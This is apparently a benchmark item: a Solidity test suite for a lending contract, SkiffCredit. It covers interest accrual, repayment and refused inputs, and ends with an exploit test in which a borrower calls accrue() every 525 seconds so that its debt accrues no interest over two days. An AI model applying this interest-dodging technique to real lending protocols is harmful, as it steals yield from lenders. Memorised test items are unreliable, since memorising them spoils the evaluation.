// SPDX-License-Identifier: LGPL-2.1-or-later
pragma solidity 0.6.12;

// assay-canary-05f6d765-d725-4f78-82af-2e20a8b06b5c

import "./SkiffCredit.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

/// A coin that can be paid in, at times, and never comes back.
contract Sieve is IERC20 {
    bool public takes;

    function open() external {
        takes = true;
    }

    function transfer(address, uint256) external override returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external override returns (bool) {
        return takes;
    }
}

contract Penny is IERC20 {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Boat {
    SkiffCredit internal credit;

    constructor(SkiffCredit credit_, Penny penny) public {
        credit = credit_;
        penny.approve(address(credit_), uint256(-1));
    }

    function borrow(uint256 amount) external {
        credit.borrow(amount);
    }

    function repay(uint256 amount) external returns (uint256) {
        return credit.repay(address(this), amount);
    }
}

/// A member with a debt, and time on its hands.
contract Attacker is Boat {
    constructor(SkiffCredit credit_, Penny penny) public Boat(credit_, penny) {}

    function tick() external {
        credit.accrue();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1790000000;

    Penny public penny;
    SkiffCredit public credit;
    Boat public boat;
    Attacker public idler;

    function setUp() public {
        vm.warp(START);
        penny = new Penny();
        credit = new SkiffCredit(penny, 600);
        boat = new Boat(credit, penny);
        idler = new Attacker(credit, penny);
        penny.mint(address(this), 9_000_000e6);
        penny.approve(address(credit), uint256(-1));
        credit.supply(8_000_000e6);
        credit.setLimit(address(boat), 1_000_000e6);
        credit.setLimit(address(idler), 6_000_000e6);
        idler.borrow(5_000_000e6);
        boat.borrow(500_000e6);
    }

    /// Whether the index has grown by at least 98 % of the interest for the time that counts as accrued.
    function indexKeepsPace() public view returns (bool) {
        uint256 one = credit.INDEX_ONE();
        uint256 due = (one * 600 * (credit.accruedAt() - START)) / (365 days * 10000);
        return (credit.index() - one) * 100 >= (due == 0 ? 0 : due - 1) * 98;
    }

    // Within three thousandths of the expected interest.
    function _near(uint256 got, uint256 expected) internal pure returns (bool) {
        uint256 slack = expected / 300;
        return got + slack >= expected && got <= expected + slack;
    }

    function test_Regular() public {
        uint256 year = 365 days;
        require(credit.totalAssets() >= 8_000_000e6 && credit.cash() == 2_500_000e6, "lent");
        try boat.borrow(500_001e6) {
            revert("over the limit");
        } catch {}

        // Thirty days of interest, accrued once.
        vm.warp(START + 30 days);
        credit.accrue();
        uint256 debt = credit.debtOf(address(boat));
        require(_near(debt - 500_000e6, (500_000e6 * 6 * 30 days) / (100 * year)), "interest of a month");
        require(indexKeepsPace(), "pace");

        // Nothing happens within the pause, and nothing is lost by it.
        vm.warp(START + 30 days + 299);
        credit.accrue();
        require(credit.accruedAt() == START + 30 days, "pause");

        // A new rate counts from its day on.
        credit.setRate(1200);
        uint256 from = credit.accruedAt();
        vm.warp(from + 30 days);
        credit.accrue();
        require(_near(credit.debtOf(address(boat)) - debt, (debt * 12 * 30 days) / (100 * year)), "second month");
        try credit.setRate(2501) {
            revert("rate too high");
        } catch {}

        // Repayment in part and in full.
        penny.mint(address(boat), 100_000e6);
        debt = credit.debtOf(address(boat));
        require(boat.repay(100_000e6) == 100_000e6, "in part");
        require(credit.debtOf(address(boat)) + 100_000e6 <= debt + 10, "debt is down");
        debt = credit.debtOf(address(boat));
        require(credit.repay(address(boat), uint256(-1)) == debt, "in full");
        require(credit.debtOf(address(boat)) == 0, "no debt");

        // The saver has earned the interest.
        uint256 shares = credit.totalShares();
        uint256 got = credit.withdraw(shares / 10);
        require(got > 805_000e6 && got < 815_000e6, "a tenth of the assets");
        try credit.withdraw(shares / 2) {
            revert("more than the cash");
        } catch {}
        try boat.borrow(1_000_001e6) {
            revert("over the limit again");
        } catch {}
    }

    // What is refused, each from the state after setUp().

    function test_RefusesRates() public {
        vm.expectRevert("Skiff/rate");
        new SkiffCredit(penny, 2501);
    }

    function test_RefusesStrangers() public {
        vm.prank(address(boat));
        vm.expectRevert("MemberRoll/registrar");
        credit.setRate(700);
    }

    function test_RefusesToSupplyNothing() public {
        vm.expectRevert("Skiff/shares");
        credit.supply(0);
    }

    function test_RefusesCoinsThatDoNotMove() public {
        Sieve sieve = new Sieve();
        SkiffCredit other = new SkiffCredit(sieve, 600);
        vm.expectRevert("Skiff/pull");
        other.supply(1e6);
        sieve.open();
        other.supply(1e6);
        vm.expectRevert("Skiff/push");
        other.withdraw(1e6);
    }

    function exploit() public {
        for (uint256 i = 1; i <= 329; i++) {
            vm.warp(START + i * 525);
            idler.tick();
        }
    }

    function test_Exploit() public {
        uint256 before = credit.debtOf(address(idler));
        exploit();
        require(!indexKeepsPace(), "interest was charged");
        require(credit.accruedAt() >= START + 47 hours, "two days have passed");
        require(credit.debtOf(address(idler)) == before, "no interest in two days");
    }

    function target() public view returns (address) {
        return address(credit);
    }

    function attacker() public view returns (address) {
        return address(idler);
    }
}
